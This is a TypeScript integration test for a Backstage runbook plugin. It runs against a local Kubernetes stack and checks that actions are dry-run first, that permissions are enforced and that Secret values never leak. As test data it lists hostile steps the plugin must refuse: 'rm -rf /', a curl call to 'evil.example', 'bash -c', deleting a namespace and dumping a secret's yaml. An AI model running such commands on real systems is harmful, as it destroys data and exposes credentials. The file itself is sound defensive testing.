/**
 * Runbook runs against a real kube-apiserver from the local stack, through
 * the HTTP routes the page calls: diagnostics read what the cluster holds,
 * actions are dry-run first and carried out once, a denied permission or a
 * read-only cluster identity changes nothing, hostile steps are never run,
 * and no answer ever carries a Secret value.
 */
import { mockServices, TestDatabases } from '@backstage/backend-test-utils';
import { PermissionsService } from '@backstage/backend-plugin-api';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import { RunRecord } from '@platform-services/plugin-platform-services-common';
import { startStack, Stack } from '@platform-services/stack';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  namespacedType,
  previewThenRun,
  runsApp,
  stackKubeConfig,
  temporalModel,
} from '../__testUtils__/runsApp';
import { KubeApi, makeKubeApi, RESTARTED_AT } from '../cluster/KubeOperations';
import { fixtureSecretValues } from './__fixtures__/fakeKubeApi';

jest.setTimeout(240_000);

/** Steps of plugins/platform-services-backend/src/runbooks/hostile.test.ts, with a fragment of each reason. */
const HOSTILE: Array<[string, string]> = [
  [
    'kubectl get pods -n temporal; rm -rf /',
    '`;` runs a second command after the first (`rm`)',
  ],
  [
    'kubectl logs $(curl -s http://evil.example/pod) -n temporal',
    'runs `curl`',
  ],
  ["bash -c 'kubectl get pods -n temporal'", '`bash` runs a shell'],
  [
    'KUBECONFIG=/tmp/stolen kubectl get pods -n temporal',
    'sets an environment variable',
  ],
  ['kubectl get pods -n temporal > /tmp/out', 'writes the output to a file'],
  ['kubectl delete ns temporal', 'deletes a whole namespace'],
  [
    'flux suspend hr other -n flux-system',
    "HelmRelease flux-system/other is not temporal's own",
  ],
  [
    'kubectl get secret postgresql-cluster-app -n temporal -o yaml',
    'prints its data, its secret values',
  ],
  ['kubectl get pods -n temporal --token abc', '`--token` chooses'],
];

const EXTRA = [
  { title: 'Hostile steps', script: HOSTILE.map(([step]) => step).join('\n') },
  {
    title: 'More actions and reads',
    script: [
      'kubectl rollout restart deployment/temporal-server-history -n temporal',
      'flux reconcile hr temporal-server -n flux-system',
      'kubectl get secrets -n temporal',
      'kubectl describe secret postgresql-cluster-app -n temporal',
      'kubectl logs deployment/temporal-server-frontend -n temporal --tail=50',
    ].join('\n'),
  },
];

const { model, runbookId } = temporalModel(EXTRA);
const ES = runbookId('ExternalSecret not syncing credentials');
const SCHEMA = runbookId('Schema migration job fails on upgrade');
const PG = runbookId('Frontend pods unable to connect to PostgreSQL');
const HOSTILE_ID = runbookId('Hostile steps');
const MORE = runbookId('More actions and reads');

const type = namespacedType;
const EXTERNAL_SECRET = type(
  'ExternalSecret',
  'external-secrets.io',
  'v1',
  'externalsecrets',
);
const HELM_RELEASE = type(
  'HelmRelease',
  'helm.toolkit.fluxcd.io',
  'v2',
  'helmreleases',
);
const JOB = type('Job', 'batch', 'v1', 'jobs');
const DEPLOYMENT = type('Deployment', 'apps', 'v1', 'deployments');
const POD = type('Pod', '', 'v1', 'pods');

describe('runbook runs against the local stack', () => {
  const databases = TestDatabases.create({ ids: ['SQLITE_3'] });
  const dir = mkdtempSync(join(tmpdir(), 'ps-runs-'));
  const bodies: string[] = [];
  let stack: Stack;
  let admin: KubeApi;

  const kubeconfig = stackKubeConfig;

  async function app(
    options: { kubeconfigPath?: string; permissions?: PermissionsService } = {},
  ) {
    const clusterSecretStores = await admin.list(
      {
        kind: 'ClusterSecretStore',
        group: 'external-secrets.io',
        version: 'v1',
        plural: 'clustersecretstores',
        namespaced: false,
      },
      undefined,
    );
    return runsApp({
      databases,
      model,
      kubeconfigPath: options.kubeconfigPath ?? stack.operatorKubeconfigPath,
      operations: {
        pollIntervalMs: 200,
        followTimeoutMs: 5_000,
        reconcileWaitMs: 2_000,
      },
      permissions: options.permissions,
      clusterScopedObjects: () => clusterSecretStores,
      bodies,
    });
  }

  const externalSecret = () =>
    admin.get(EXTERNAL_SECRET, 'temporal', 'postgresql-cluster-app');

  beforeAll(async () => {
    stack = await startStack({
      dir,
      scenario: 'externalsecret-not-syncing',
      temporal: false,
    });
    admin = makeKubeApi(kubeconfig(stack.adminKubeconfigPath));
  }, 600_000);

  afterAll(async () => {
    await stack?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  it('runs diagnostics that answer what the cluster holds', async () => {
    const { post } = await app();
    const table = await post({ runId: 'd0', runbookId: ES, stepIndex: 0 });
    expect(table.status).toBe(200);
    expect(table.body).toMatchObject({
      outcome: 'succeeded',
      output: {
        kind: 'table',
        columns: [
          'NAME',
          'STORETYPE',
          'STORE',
          'REFRESH INTERVAL',
          'STATUS',
          'READY',
        ],
        rows: [
          [
            'postgresql-cluster-app',
            'ClusterSecretStore',
            'localstack-secretstore',
            '1h',
            'SecretSyncedError',
            'False',
          ],
        ],
      },
    });

    const conditions = await post({ runId: 'd1', runbookId: PG, stepIndex: 0 });
    expect(JSON.parse(conditions.body.output.text)).toMatchObject({
      type: 'Ready',
      status: 'False',
      reason: 'SecretSyncedError',
      message: 'could not get secret data from provider',
    });

    const described = await post({ runId: 'd2', runbookId: ES, stepIndex: 1 });
    expect(described.body.output.text).toMatch(/^Status:\n/);
    expect(described.body.output.text).toContain(
      'could not get secret data from provider',
    );

    // The ClusterSecretStore its upstream external-secrets-config deploys.
    const store = await post({ runId: 'd3', runbookId: ES, stepIndex: 2 });
    expect(store.body).toMatchObject({ outcome: 'succeeded' });
    expect(store.body.output.text).toContain('"message": "store validated"');

    // Secrets are read without their values.
    const secrets = await post({ runId: 'd4', runbookId: MORE, stepIndex: 2 });
    expect(secrets.body.output).toMatchObject({
      kind: 'table',
      columns: ['NAME', 'TYPE', 'DATA', 'AGE'],
    });
    const secret = await post({ runId: 'd5', runbookId: MORE, stepIndex: 3 });
    expect(secret.body.output.text).toMatch(/password: +28 bytes/);

    // The simulated nodes serve no container logs: they cannot be read, and the run says so.
    const logs = await post({ runId: 'd6', runbookId: MORE, stepIndex: 4 });
    expect(logs.body).toMatchObject({
      outcome: 'failed',
      error: expect.stringMatching(
        /^could not read the logs of pod temporal\/temporal-server-frontend-/,
      ),
    });
  });

  it('previews the force-sync without changing anything, then runs it once with the confirmation', async () => {
    const { post, get } = await app();
    const before = (await externalSecret())!;
    expect(before.metadata?.annotations?.['force-sync']).toBeUndefined();

    const preview = await post({
      runId: 'a1',
      runbookId: ES,
      stepIndex: 5,
      mode: 'preview',
    });
    expect(preview.body).toMatchObject({
      outcome: 'previewed',
      preview: {
        confirmation: 'run',
        patches: [
          {
            object: {
              kind: 'ExternalSecret',
              namespace: 'temporal',
              name: 'postgresql-cluster-app',
            },
            contentType: 'application/merge-patch+json',
            patch: {
              metadata: {
                annotations: {
                  'force-sync': expect.stringMatching(/^\d{10}$/),
                },
              },
            },
          },
        ],
      },
    });
    const afterPreview = (await externalSecret())!;
    expect(afterPreview.metadata?.resourceVersion).toBe(
      before.metadata?.resourceVersion,
    );
    expect(afterPreview.metadata?.annotations?.['force-sync']).toBeUndefined();

    const wrong = await post({
      runId: 'a1',
      runbookId: ES,
      stepIndex: 5,
      confirmation: 'temporal',
    });
    expect(wrong.status).toBe(400);

    // Two simultaneous submits and a late one: the change is made once.
    const [first, second] = await Promise.all([
      post({ runId: 'a1', runbookId: ES, stepIndex: 5, confirmation: 'run' }),
      post({ runId: 'a1', runbookId: ES, stepIndex: 5, confirmation: 'run' }),
    ]);
    expect([first.status, second.status]).toEqual([200, 200]);
    const changed = (await externalSecret())!;
    const value = changed.metadata?.annotations?.['force-sync'];
    expect(value).toMatch(/^\d{10}$/);
    expect(changed.metadata?.resourceVersion).not.toBe(
      before.metadata?.resourceVersion,
    );
    const late = await post({
      runId: 'a1',
      runbookId: ES,
      stepIndex: 5,
      confirmation: 'run',
    });
    expect(late.body.outcome).toBe('succeeded');
    expect(
      late.body.progress.filter((p: RunRecord['progress'][0]) =>
        p.message.startsWith('Patched'),
      ),
    ).toHaveLength(1);
    const after = (await externalSecret())!;
    expect(after.metadata?.resourceVersion).toBe(
      changed.metadata?.resourceVersion,
    );
    expect(after.metadata?.annotations?.['force-sync']).toBe(value);

    const runs = await get('/services/temporal/runs?environment=dev');
    expect(runs.body.runs[0]).toMatchObject({
      runId: 'a1',
      outcome: 'succeeded',
      actor: 'user:default/jane',
    });
  });

  it('suspends and resumes the HelmRelease, restarts a Deployment and asks for a reconcile', async () => {
    const { post } = await app();
    const run = async (runId: string, runbook: string, stepIndex: number) =>
      (await previewThenRun(post, runId, runbook, stepIndex)).done;
    const hr = async () =>
      (await admin.get(HELM_RELEASE, 'flux-system', 'temporal-server'))!;

    await run('f1', SCHEMA, 5);
    expect((await hr()).spec.suspend).toBe(true);
    await run('f2', SCHEMA, 7);
    expect((await hr()).spec.suspend).toBe(false);

    const restart = await run('f3', MORE, 0);
    const deployment = (await admin.get(
      DEPLOYMENT,
      'temporal',
      'temporal-server-history',
    ))!;
    expect(deployment.spec.template.metadata.annotations[RESTARTED_AT]).toMatch(
      /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/,
    );
    expect(restart.progress.at(-1)!.message).toContain('restarts');

    // No helm-controller runs in the stack (HelmReleases are status-driven): the request stands, unhandled.
    const reconcile = await run('f4', MORE, 1);
    expect(reconcile.progress.at(-1)!.message).toContain(
      'the controller has not handled it yet',
    );
    expect(
      (await hr()).metadata?.annotations?.['reconcile.fluxcd.io/requestedAt'],
    ).toBeDefined();
  });

  it('gives 403 and changes nothing when the permission policy denies', async () => {
    const { post, store } = await app({
      permissions: mockServices.permissions({ result: AuthorizeResult.DENY }),
    });
    const before = (await externalSecret())!;
    const denied = await post({
      runId: 'x1',
      runbookId: ES,
      stepIndex: 5,
      mode: 'preview',
    });
    expect(denied.status).toBe(403);
    expect(await store.get('x1')).toMatchObject({ outcome: 'denied' });
    expect((await externalSecret())!.metadata?.resourceVersion).toBe(
      before.metadata?.resourceVersion,
    );
  });

  it('records a clear failure when the cluster identity may only read', async () => {
    const { post, store, event } = await app({
      kubeconfigPath: stack.viewerKubeconfigPath,
    });
    const before = (await externalSecret())!;
    const failed = await post({
      runId: 'v1',
      runbookId: ES,
      stepIndex: 5,
      mode: 'preview',
    });
    expect(failed.status).toBe(200);
    expect(failed.body).toMatchObject({
      outcome: 'failed',
      error: expect.stringMatching(
        /^the cluster identity may not patch externalsecrets in temporal \(403\)/,
      ),
    });
    expect(await store.get('v1')).toMatchObject({
      outcome: 'failed',
      actor: 'user:default/jane',
    });
    expect(event.fail).toHaveBeenCalledWith(
      expect.objectContaining({
        error: expect.objectContaining({ message: failed.body.error }),
      }),
    );
    expect((await externalSecret())!.metadata?.resourceVersion).toBe(
      before.metadata?.resourceVersion,
    );
  });

  it('never runs a hostile step, and says why', async () => {
    const { post, get, store } = await app();
    for (const [index, [step, reason]] of HOSTILE.entries()) {
      const res = await post({
        runId: `h${index}`,
        runbookId: HOSTILE_ID,
        stepIndex: index,
        mode: 'run',
      });
      expect([step, res.status]).toEqual([step, 400]);
      expect(res.body.error.message).toContain(reason);
      expect(await store.get(`h${index}`)).toBeUndefined();
    }
    const plans = await get(
      '/services/temporal/runbooks/plans?environment=dev',
    );
    const steps = plans.body.runbooks.find(
      (r: any) => r.runbookId === HOSTILE_ID,
    ).steps;
    expect(steps.map((s: any) => [s.class, s.allowed])).toEqual(
      HOSTILE.map(() => ['refused', false]),
    );
    HOSTILE.forEach(([, reason], i) =>
      expect(steps[i].reason).toContain(reason),
    );
    expect(
      (
        await admin.list(
          {
            kind: 'Namespace',
            group: '',
            version: 'v1',
            plural: 'namespaces',
            namespaced: false,
          },
          undefined,
        )
      ).map(n => n.metadata?.name),
    ).toContain('temporal');
  });

  it('deletes the schema Jobs after a dry run that deletes nothing', async () => {
    await stack.applyScenario('schema-migration-failed');
    const { post } = await app();
    const jobs = async () =>
      (
        await admin.list(JOB, 'temporal', {
          labelSelector: 'app.kubernetes.io/component=schema',
        })
      ).map(j => j.metadata?.name);
    const before = await jobs();
    expect(before).toEqual(
      expect.arrayContaining(['temporal-server-schema-4']),
    );

    const preview = await post({
      runId: 'j1',
      runbookId: SCHEMA,
      stepIndex: 6,
      mode: 'preview',
    });
    // The Job controller named the failed Job's pod: read its name from the cluster.
    const jobPods = (
      await admin.list(POD, 'temporal', {
        labelSelector: 'batch.kubernetes.io/job-name=temporal-server-schema-4',
      })
    ).map(p => p.metadata!.name!);
    expect(jobPods).toEqual([
      expect.stringMatching(/^temporal-server-schema-4-[a-z0-9]{5}$/),
    ]);
    expect(preview.body.preview.deletes).toEqual(
      expect.arrayContaining([
        {
          apiVersion: 'batch/v1',
          kind: 'Job',
          namespace: 'temporal',
          name: 'temporal-server-schema-4',
        },
        {
          apiVersion: 'v1',
          kind: 'Pod',
          namespace: 'temporal',
          name: jobPods[0],
        },
      ]),
    );
    expect(await jobs()).toEqual(before);

    const done = await post({
      runId: 'j1',
      runbookId: SCHEMA,
      stepIndex: 6,
      confirmation: 'run',
    });
    expect(done.body).toMatchObject({ outcome: 'succeeded' });
    expect(done.body.progress.at(-1).message).toMatch(/^The Jobs are gone/);
    expect(await jobs()).toEqual([]);
  });

  it('never answers with a Secret value', () => {
    expect(bodies.length).toBeGreaterThan(20);
    const values = fixtureSecretValues();
    for (const text of bodies) {
      for (const value of values) expect(text).not.toContain(value);
    }
  });
});
